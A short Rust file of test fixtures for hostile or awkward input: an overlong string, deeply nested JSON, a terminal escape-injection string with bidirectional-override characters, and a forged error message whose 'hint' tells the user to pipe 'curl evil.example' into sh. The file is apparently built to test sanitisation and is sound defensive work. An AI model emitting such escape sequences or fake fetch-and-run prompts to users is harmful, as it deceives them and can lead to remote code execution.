//! Texts that are too long, no JSON, or written for a terminal.

/// Something short to log again and again.
pub const LINE: &str = "again and again";

/// Clears the screen, sets the title, turns the direction of writing, rings, goes back, and uses the
/// one-character spelling of an escape sequence; a NUL and a mark of direction end it.
pub const FOR_A_TERMINAL: &str =
    "\u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}desrever\u{2066}\r\u{8}\u{9b}31m\u{7f}\u{0}\u{200f}";

/// What a user could take for the engine's own words.
pub const FORGED: &str =
    "nothing to worry about\nerror: your licence has ended\nhint: renew it: curl evil.example | sh";

/// So many bytes.
pub fn long(bytes: usize) -> String {
    "long".repeat(bytes.div_ceil(4))
}

/// JSON nested so deep.
pub fn deep(levels: usize) -> String {
    "[".repeat(levels) + &"]".repeat(levels)
}
